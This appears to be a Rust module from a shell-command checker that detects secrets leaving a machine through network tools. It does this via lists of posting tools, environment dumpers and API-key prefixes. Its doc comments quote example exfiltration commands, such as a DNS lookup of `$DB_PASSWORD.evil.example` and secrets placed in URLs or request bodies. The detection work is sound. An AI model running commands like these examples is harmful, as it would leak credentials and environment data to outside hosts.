//! Secrets that leave this machine in an address or in a message.

use std::ops::Range;

use provost_shell::{Hole, Invocation, Part as Piece, Place, Redirect, RedirectKind, Word};

use super::{
    super::{
        action::{Action, host_of},
        arguments::{Arguments, program},
        builtin::BuiltIn::NetworkSend,
    },
    Part,
    sending::{is_fed_by, is_local, is_secret_name},
};

/// Programs that put a text where others can read it.
const POSTERS: [&str; 30] = [
    "curl",
    "curlie",
    "dig",
    "discord",
    "drill",
    "fetch",
    "gh",
    "glab",
    "host",
    "http",
    "httpie",
    "https",
    "hub",
    "jira",
    "kdig",
    "lynx",
    "mail",
    "mailx",
    "mutt",
    "nslookup",
    "ntfy",
    "ping",
    "sendmail",
    "slack",
    "slackcat",
    "tea",
    "telegram-send",
    "twilio",
    "wget",
    "xh",
];

/// Programs that say what all variables hold.
const DUMPERS: [&str; 7] = ["compgen", "declare", "env", "export", "history", "printenv", "set"];

/// The first words of variables that do not say whose they are.
const NOBODYS: [&str; 14] = [
    "access", "api", "app", "auth", "bearer", "bot", "ci", "client", "job", "key", "my",
    "personal", "service", "token",
];

/// How keys begin that stand in the open.
const KEYS: [&str; 12] = [
    "AKIA",
    "ASIA",
    "gho_",
    "ghp_",
    "ghs_",
    "github_pat_",
    "glpat-",
    "npm_",
    "sk-ant-",
    "sk_live_",
    "xoxb-",
    "xoxp-",
];

/// Notes a secret in an address, or the whole environment in a message.
pub(super) fn judge(part: &Part<'_>, name: &str, action: &mut Action) {
    if !POSTERS.contains(&name) {
        return;
    }
    let arguments = Arguments::of(part.invocation);
    let texts: Vec<String> = arguments.words().iter().map(Word::to_string).collect();
    let mut hosts = texts.iter().filter_map(|it| host_of(it));
    if hosts.next().is_some_and(|it| is_local(&it)) && hosts.all(|it| is_local(&it)) {
        return;
    }
    // What `curl` reads from a pipe is judged with its options.
    let reads = !matches!(name, "curl" | "dig" | "host" | "nslookup" | "ping" | "wget");
    let is_fed = reads && is_fed_by(part.script, part.index, &["env", "printenv", "set"]);
    let words = arguments.words();
    let is_text =
        |it: &&Redirect| matches!(it.kind, RedirectKind::HereDocument | RedirectKind::HereString);
    let given = part.invocation.redirects.iter().filter(is_text).map(|it| &it.target);
    let is_key = |it: &Word| variables(it).any(|(name, _)| name.ends_with("SECRET_ACCESS_KEY"));
    let is_far = || texts.iter().filter_map(|it| host_of(it)).any(|it| !is_local(&it));
    if is_fed
        || (ENCODED_BY.contains(&name) && words.iter().any(|it| holds_file(part, it)))
        || (name == "curl" && is_far() && is_led_astray(arguments))
        || words.iter().chain(given).any(|it| holds_environment(part, it))
        || words
            .iter()
            .any(|it| is_told(name, it) || is_in_address(it) || (name == "curl" && is_key(it)))
    {
        action.meet(NetworkSend);
    }
}

/// Programs that put a text into an address or a header, where nobody needs a whole file.
const ENCODED_BY: [&str; 12] = [
    "curl", "curlie", "dig", "drill", "host", "http", "https", "kdig", "nslookup", "ping", "wget",
    "xh",
];
/// Programs that write a file in letters which an address can carry.
const ENCODERS: [&str; 8] =
    ["base32", "base64", "basenc", "gzip", "hexdump", "od", "uuencode", "xxd"];

/// `"https://x.example/$(base64 notes.txt)"`.
fn holds_file(part: &Part<'_>, word: &Word) -> bool {
    let all = &part.script.invocations;
    let parts = word.parts().iter().filter_map(|it| match it {
        Piece::Hole { hole: Hole::Command(parts), .. } => Some(parts),
        Piece::Hole { .. } | Piece::Text(_) => None,
    });
    let speaks = |it: &Invocation| {
        matches!(program(it).as_deref(), Some("date" | "echo" | "openssl" | "printf" | "uuidgen"))
    };
    let is_encoder = |(at, it): (usize, &Invocation)| {
        let encodes = program(it).is_some_and(|it| ENCODERS.contains(&it.as_str()));
        let feeders = part.script.feeders(at).into_iter().filter_map(|it| all.get(it));
        let names = Arguments::of(it).operands().any(|it| it.text() != Some("-"));
        let reads = it.redirects.iter().any(|it| it.kind == RedirectKind::Read);
        encodes && (names || reads || feeders.into_iter().any(|it| !speaks(it)))
    };
    let inside = |parts: &Range<usize>| {
        let here = all.iter().enumerate().filter(|it| parts.contains(&it.1.part));
        here.into_iter().any(is_encoder)
    };
    parts.into_iter().any(inside)
}

/// Whether `curl` takes a secret to another host than the one in the address.
fn is_led_astray(arguments: Arguments<'_>) -> bool {
    let is_secret = |it: &Word| variables(it).any(|(name, _)| is_secret_name(name));
    let mut proxies = arguments.values(&["-x", "--proxy", "--preproxy", "--socks5"]);
    let is_proxied = proxies.any(|it| {
        let address = if it.contains("://") { it } else { format!("http://{it}") };
        host_of(&address).is_some_and(|it| !is_local(&it))
    });
    let mut hosts = arguments.values(&["--connect-to", "--resolve"]);
    let is_moved = hosts.any(|it| {
        let to = it.trim_start_matches(['+', '-']).split(':').nth(2).unwrap_or_default().to_owned();
        !is_local(&to) && !to.starts_with("10.") && !to.starts_with("192.168.")
    });
    (is_proxied || is_moved) && arguments.words().iter().any(is_secret)
}

/// `-b "$(printenv)"`, `--body-file <(env)`.
fn holds_environment(part: &Part<'_>, word: &Word) -> bool {
    let is_hole =
        |it: &Piece| matches!(it, Piece::Hole { hole: Hole::Command(_) | Hole::Process, .. });
    word.parts().iter().any(is_hole) && part.script.invocations.iter().any(dumps)
}

/// Whether an invocation prints all variables, or one that is called after a secret.
fn dumps(invocation: &Invocation) -> bool {
    let is_inner = matches!(invocation.place, Place::Substitution | Place::Process);
    let name = program(invocation).unwrap_or_default();
    let mut named = Arguments::of(invocation).operands().filter_map(Word::text);
    let is_plain = named.clone().next().is_some() && !named.any(is_secret_name);
    is_inner && !invocation.is_prefix && DUMPERS.contains(&name.as_str()) && !is_plain
}

/// The variables of a word, each with the known text before it.
fn variables(word: &Word) -> impl Iterator<Item = (&str, String)> {
    let mut before = String::new();
    word.parts().iter().filter_map(move |it| match it {
        Piece::Text(text) => {
            before.push_str(text);
            None
        }
        Piece::Hole { hole: Hole::Parameter(name), .. } => Some((name.as_str(), before.clone())),
        Piece::Hole { .. } => None,
    })
}

/// `https://x.example/?k=$AWS_SECRET_ACCESS_KEY`, where the variable is not the host's own.
fn is_in_address(word: &Word) -> bool {
    variables(word).any(|(name, before)| {
        let host = host_of(&before);
        let is_behind = before.split_once("://").is_some_and(|(_, it)| it.contains(['/', '?']));
        let is_secret = is_secret_name(name) || name.to_ascii_uppercase().contains("ACCESS_KEY");
        is_behind && is_secret && host.is_some_and(|it| !is_local(&it) && !is_own(name, &it))
    })
}

/// `dig $DB_PASSWORD.evil.example`, `http POST evil.example key=$STRIPE_KEY`.
fn is_told(name: &str, word: &Word) -> bool {
    let asks_name = matches!(name, "dig" | "drill" | "host" | "kdig" | "nslookup" | "ping");
    let has_body = matches!(name, "http" | "https" | "xh");
    let is_field = |before: &str| before.ends_with('=') && !before.contains([':', '/']);
    variables(word).any(|(variable, before)| {
        is_secret_name(variable) && (asks_name || (has_body && is_field(&before)))
    })
}

/// Whether a variable is called after a host, or after nobody.
fn is_own(variable: &str, host: &str) -> bool {
    let first = variable.split('_').next().unwrap_or_default().to_ascii_lowercase();
    let is_short = first.len() <= 2 && !matches!(first.as_str(), "db" | "pg");
    is_short || NOBODYS.contains(&first.as_str()) || host.contains(&first)
}

/// Whether a key stands in an address, as it does in no link that somebody shares.
pub(in super::super) fn shows_key(address: &str) -> bool {
    let is_signed = address.contains("X-Amz-") || address.contains("Signature=");
    let pieces = address.split(['?', '&', '=', '/', '#', ':']);
    !is_signed
        && pieces.into_iter().any(|it| {
            let rest = KEYS.iter().find_map(|start| it.strip_prefix(start)).unwrap_or_default();
            let is_sign = |it: char| it.is_ascii_alphanumeric() || matches!(it, '-' | '_');
            rest.len() >= 16
                && rest.chars().all(is_sign)
                && rest.contains(|it: char| it.is_ascii_digit() || it.is_ascii_uppercase())
        })
}
